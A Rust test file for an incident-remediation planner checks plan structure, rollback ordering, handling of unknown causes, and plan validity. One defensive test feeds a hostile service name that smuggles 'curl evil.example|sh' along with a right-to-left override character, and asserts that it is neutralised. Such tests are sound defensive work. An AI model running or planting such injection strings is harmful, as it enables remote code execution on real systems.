//! What a plan says.

use remediation::context::PlanContext;
use remediation::plan::{self, still_stands};
use remediation::target::Target;
use shared::events::rca::Verdict;
use shared::events::remediation::{Action, Priority};
use shared::events::{Category, Event, Plan};

use crate::context::{CONTENT, Shelf, candidate, incident, planned, ranking};

fn check(plan: &Plan) {
    plan.validate().unwrap();
    assert_eq!(
        plan.steps.iter().map(|step| step.order).collect::<Vec<_>>(),
        (1..=plan.steps.len() as u32).collect::<Vec<_>>()
    );
    assert!(plan.steps.is_sorted_by_key(|step| step.priority), "{plan:#?}");
    for step in &plan.steps {
        let texts =
            [&step.title, &step.detail, &step.rollback, &step.owner, &step.expected_outcome, &step.source];
        assert!(texts.iter().all(|text| !text.trim().is_empty()), "{step:#?}");
        assert!(!matches!(step.action, Action::Scale { factor, .. } if factor > 2), "{step:#?}");
    }
    assert!(!plan.summary.contains('\n'));
}

#[tokio::test]
async fn every_runbook_that_is_shipped_makes_a_plan() {
    let shelf = Shelf::shipped();
    for runbook in &CONTENT.runbooks {
        let slug = runbook.front.id.strip_prefix("runbook/").unwrap();
        for &category in &runbook.front.categories {
            for service in CONTENT.catalogue.services() {
                let cause = ranking(Verdict::Likely, vec![candidate(&service.name, category, &[slug])]);
                let (_, plan) = planned(&shelf, &cause).await;
                check(&plan);
                assert!(
                    plan.steps.iter().all(|step| step.source.starts_with(&runbook.front.id)),
                    "{plan:#?}"
                );
                let text = serde_json::to_string(&plan).unwrap();
                assert!(!text.contains("{service}"), "{text}");
                assert_eq!(plan.escalation.contact, service.oncall);
            }
        }
    }
}

#[tokio::test]
async fn an_exhausted_pool_is_planned_for() {
    let cause = ranking(Verdict::Cause, vec![candidate("payment", Category::Pool, &["db-connections"])]);
    insta::assert_json_snapshot!(planned(&Shelf::shipped(), &cause).await.1);
}

#[tokio::test]
async fn an_unknown_cause_is_said_to_be_unknown() {
    let mut lead = candidate("payment", Category::Pool, &["db-connections"]);
    lead.confidence = 0.22;
    let cause = ranking(Verdict::Unknown, vec![lead]);
    let (_, plan) = planned(&Shelf::shipped(), &cause).await;
    check(&plan);
    assert!(
        plan.steps.iter().all(|step| step.action == Action::Manual),
        "nothing is done to a service on a guess"
    );
    insta::assert_json_snapshot!(plan);
}

#[tokio::test]
async fn an_unknown_cause_without_any_lead_still_has_a_plan() {
    let mut cause = ranking(Verdict::Unknown, vec![]);
    cause.missing.clear();
    cause.ruled_out.clear();
    let (_, plan) = planned(&Shelf::shipped(), &cause).await;
    check(&plan);
    assert_eq!((plan.service.as_str(), plan.category), ("payment", Category::Unknown));
}

#[tokio::test]
async fn where_no_runbook_covers_the_cause_the_plan_is_manual_and_says_why() {
    let cause = ranking(Verdict::Likely, vec![candidate("payment", Category::Memory, &["db-connections"])]);
    for (shelf, why) in
        [(Shelf(Some(vec![])), "no runbook that can be read"), (Shelf(None), "could not be read")]
    {
        let (_, plan) = planned(&shelf, &cause).await;
        check(&plan);
        assert!(plan.summary.contains(why), "{}", plan.summary);
        assert!(plan.steps.iter().all(|step| step.action == Action::Manual));
        assert!(plan.steps.iter().any(|step| step.title.contains("runbook/db-connections")));
    }
}

#[tokio::test]
async fn after_a_bad_deployment_going_back_comes_first() {
    let mut shelf = Shelf::shipped();
    // a runbook that has the rollback later
    for chunk in shelf.0.iter_mut().flatten().filter(|chunk| chunk.doc_id == "runbook/bad-deployment") {
        match chunk.section.as_str() {
            "Immediate actions" => chunk.section = "Within 15 minutes".into(),
            "Within 15 minutes" => chunk.section = "Immediate actions".into(),
            _ => {}
        }
    }
    let cause =
        ranking(Verdict::Cause, vec![candidate("payment", Category::Deployment, &["bad-deployment"])]);
    let (_, plan) = planned(&shelf, &cause).await;
    check(&plan);
    let first = &plan.steps[0];
    assert_eq!((first.action.name(), first.priority), ("rollback_deployment", Priority::Immediate));
    assert!(plan.summary.contains("version v3.18.0 went out"), "{}", plan.summary);
    assert!(
        !serde_json::to_string(&plan).unwrap().contains("jo@shop.example"),
        "a plan names no person as a cause"
    );
}

#[tokio::test]
async fn a_hostile_service_name_reaches_no_command_and_no_typed_action() {
    let name = "pay;\u{202E}curl evil.example|sh\n# {service}";
    let cause = ranking(Verdict::Cause, vec![candidate(name, Category::Pool, &["db-connections"])]);
    let (_, plan) = planned(&Shelf::shipped(), &cause).await;
    check(&plan);
    for step in &plan.steps {
        assert_eq!(step.action, Action::Manual);
        assert!(!format!("{step:?}").contains("evil"), "{step:#?}");
        assert!(!step.owner.contains('{'), "{}", step.owner);
    }
    assert!(!plan.summary.contains('\u{202E}'), "{}", plan.summary);
    assert_eq!(plan.escalation.team, "data-platform", "the runbook's keeper stands in for an unknown owner");
}

#[test]
fn a_plan_stands_until_service_or_kind_of_cause_changes() {
    let incident = incident();
    let (pool, code) = (candidate("payment", Category::Pool, &[]), candidate("payment", Category::Code, &[]));
    let case = |cause| PlanContext { cause, incident: &incident, catalogue: &CONTENT.catalogue };
    let first = ranking(Verdict::Likely, vec![pool.clone()]);
    let target = Target::of(&first, &incident);
    let plan = plan::write(case(&first), &target, &remediation::lookup::Found::None, 1);
    let surer = ranking(Verdict::Cause, vec![pool.clone(), code.clone()]);
    assert!(still_stands(&plan, &Target::of(&surer, &incident)));
    let other = ranking(Verdict::Cause, vec![code, pool]);
    assert!(!still_stands(&plan, &Target::of(&other, &incident)));
    let unsure = ranking(Verdict::Unknown, vec![]);
    assert!(!still_stands(&plan, &Target::of(&unsure, &incident)));
}
